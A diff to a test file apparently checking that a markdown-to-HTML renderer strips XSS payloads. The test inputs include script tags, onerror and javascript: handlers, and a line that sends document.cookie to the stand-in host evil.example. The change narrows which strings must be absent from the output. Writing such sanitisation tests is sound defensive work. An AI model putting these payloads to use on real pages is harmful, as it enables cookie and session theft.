@@ -104,7 +104,7 @@ CASES = [
     # --- script, event handlers and javascript: links in bodies, titles, fields, registry ---
     art("xss_body_script.md", "render", page=r"articles/xss-body-script\.html",
         text=("<script>alert(1)</script>", 'document.location = "https://evil.example/?c=" + document.cookie'),
-        absent=("<script", "<style")),
+        absent=("<script>alert(1)", "<script>\ndocument", "<style>body")),
     art("xss_body_onerror.md", "render", page=r"articles/xss-body-onerror\.html",
         text=('<img src="x" onerror="alert(1)">', '<iframe src="javascript:alert(4)"></iframe>')),
     art("xss_md_link_javascript.md", "render", page=r"articles/xss-md-link-javascript\.html",
